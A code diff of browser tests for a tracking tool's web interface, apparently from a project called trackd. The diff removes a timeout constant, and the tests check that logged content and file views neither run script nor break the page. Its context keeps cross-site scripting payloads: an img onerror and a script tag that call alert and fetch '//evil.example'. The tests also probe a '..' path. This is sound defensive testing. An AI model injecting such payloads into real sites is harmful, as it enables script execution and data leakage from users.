@@ -20,7 +20,6 @@ from tests.browser.conftest import OpenPage
 import trackd
 from trackd import _daemon
 
-PATIENCE_MS = 20_000
 RUN_IT = "(top.owned=1,alert(1),fetch('//evil.example'))"
 TAGS = (
     f'"><img src=x onerror="{RUN_IT}"><script>{RUN_IT}</script>'
@@ -269,11 +268,11 @@ class Guard:
         page.set_viewport_size({"width": 1440, "height": 900})
         page.goto(f"{self.origin}{path}")
         try:
-            expect(page.locator("main")).to_have_attribute("aria-busy", "false", timeout=PATIENCE_MS)
+            expect(page.locator("main")).to_have_attribute("aria-busy", "false")
         except AssertionError:
             self.faults.append(f"{path} never came")
             return page
-        expect(page.locator('[aria-busy="true"]')).to_have_count(0, timeout=PATIENCE_MS)
+        expect(page.locator('[aria-busy="true"]')).to_have_count(0)
         for width in (1440, 360):
             page.set_viewport_size({"width": width, "height": 900})
             for _ in range(40):  # what is drawn follows the size of its place by a frame
@@ -329,14 +328,14 @@ def test_nothing_that_was_logged_runs_leaves_or_breaks_a_page(
         path = f"{one}?tab={tab}"
         page = guard.look(path)
         if tab == "logs":
-            expect(page.get_by_text("the last line")).to_be_visible(timeout=PATIENCE_MS)
+            expect(page.get_by_text("the last line")).to_be_visible()
         page.set_viewport_size({"width": 1440, "height": 3000})
         if tab == "media":
             logged = page.get_by_role("article", name="media/html").frame_locator("iframe")
-            expect(logged.get_by_role("heading", name="a page")).to_be_visible(timeout=PATIENCE_MS)
+            expect(logged.get_by_role("heading", name="a page")).to_be_visible()
         if tab == "tables":  # charts and figures have drawn what they can
-            expect(page.get_by_test_id("frame")).to_have_count(2, timeout=PATIENCE_MS)
-            expect(page.get_by_text("Drawing …")).to_have_count(0, timeout=PATIENCE_MS)
+            expect(page.get_by_test_id("frame")).to_have_count(2)
+            expect(page.get_by_text("Drawing …")).to_have_count(0)
         guard.check(path)
     assert not guard.faults, "\n".join(guard.faults)
 
@@ -355,7 +354,7 @@ def test_a_name_that_turns_text_round_leaves_what_stands_beside_it(
 
     def check(line: Locator) -> None:
         """Holds the pieces of a line to the order in which they are written."""
-        expect(line).to_be_visible(timeout=PATIENCE_MS)
+        expect(line).to_be_visible()
         pieces = line.evaluate(
             """line => {
               const walker = document.createTreeWalker(line, NodeFilter.SHOW_TEXT);
@@ -401,8 +400,8 @@ def test_no_file_view_or_address_runs_or_breaks_anything(guard: Guard, runs: lis
         if file.startswith(".."):  # which the run does not keep, whatever lies there
             expect(page.get_by_text("SQLite format")).to_have_count(0)
             continue
-        expect(page.get_by_role("heading", name=file)).to_be_visible(timeout=PATIENCE_MS)
-        expect(page.get_by_text("Reading…")).to_have_count(0, timeout=PATIENCE_MS)
+        expect(page.get_by_role("heading", name=file)).to_be_visible()
+        expect(page.get_by_text("Reading…")).to_have_count(0)
         for way in page.get_by_role("group", name="Shown as").get_by_role("button").all():
             way.click()
             guard.check(path)
